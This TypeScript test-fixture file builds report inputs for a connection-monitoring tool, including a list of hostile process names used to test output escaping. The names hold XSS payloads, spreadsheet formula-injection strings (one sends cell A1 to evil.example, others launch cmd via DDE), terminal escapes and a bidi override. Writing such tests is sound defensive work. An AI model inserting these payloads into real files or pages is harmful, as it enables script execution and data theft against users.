/** Report inputs for the report tests: a snapshot of a few plain connections, and names a hostile process could give itself. */
import type { Connection } from '../../../shared/model';
import { NO_FILTER } from '../../../shared/connection-filter';
import type { EndedConnection, PostMortem, ReportInput } from '../../../main/report/model';
import { connection, NOW, SNAPSHOT_HEAD } from '../../fixtures/connection';
import { historyEntry } from '../../fixtures/profiles';

/** What a process may name itself (anything but NUL), each meant to break one format. */
export const HOSTILE_NAMES = {
  markup: '<script>alert(1)</script><img src=x onerror=alert(2)>',
  attribute: '" onmouseover="alert(3)',
  equals: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: '+cmd|\' /C calc\'!A0',
  minus: '-2+3+cmd|\' /C calc\'!A0',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
  lineFeed: '\n=1+1',
  controls: 'evil\x1b[31m\x07\x00name\x9b',
  bidi: '\u202eexe.evil',
  long: 'A'.repeat(10 * 1024),
  loneHigh: 'x\ud800y',
  loneLow: '\udc00z',
} as const;


export function reportInput(connections: Connection[], over: Partial<ReportInput> = {}): ReportInput {
  return {
    snapshot: { ...SNAPSHOT_HEAD, connections },
    rules: [{ id: 'r1', name: 'AWS NLB', kind: 'middlebox', idleTimeoutSec: 350, match: { remotePort: 5432 }, enabled: true }],
    history: [historyEntry()],
    scope: { kind: 'all', filter: { ...NO_FILTER } },
    generatedAt: NOW + 1000,
    ...over,
  };
}

/** One connection per hostile name, in its process, user and rule name. */
export function hostileConnections(): Connection[] {
  return Object.entries(HOSTILE_NAMES).map(([key, name], i) =>
    connection({ id: `hostile-${key}`, localPort: 41000 + i, process: name, user: name, dropBy: name, dropReason: 'middlebox' }),
  );
}

export function endedConnection(over: Partial<EndedConnection> = {}): EndedConnection {
  return {
    lastSeen: connection(),
    family: 'ipv4',
    localAddress: '10.0.0.1',
    localPort: 40000,
    remoteAddress: '10.0.0.2',
    remotePort: 5432,
    process: 'psql',
    pid: 101,
    user: 'alice',
    endedAt: NOW - 60_000,
    endedWindow: null,
    endSource: 'kernel-event',
    idleAtEndMs: 900_000,
    projectedDropAt: NOW - 60_200,
    projectedDropReason: 'keepalive',
    cause: 'keepalive',
    evidence: ['It ended 0.2 s after its projected keepalive drop.', '5 probes were out unanswered when it ended.'],
    statesSeen: ['ESTABLISHED'],
    ...over,
  };
}

export function postMortem(ended: EndedConnection[]): PostMortem {
  const byCause = { keepalive: 0, retransmit: 0, 'user-timeout': 0, 'zero-window': 0, closed: 0, reset: 0, middlebox: 0, application: 0, unknown: 0 };
  for (const e of ended) byCause[e.cause]++;
  return {
    recording: {
      name: 'recording-20251124T113000Z.ndjson',
      startedAt: NOW - 1_800_000,
      stoppedAt: NOW,
      lastAt: NOW,
      intervalMs: 2000,
      endSource: 'kernel-events',
      endSourceNote: null,
      polls: 900,
      truncated: false,
    },
    ended,
    byCause,
  };
}
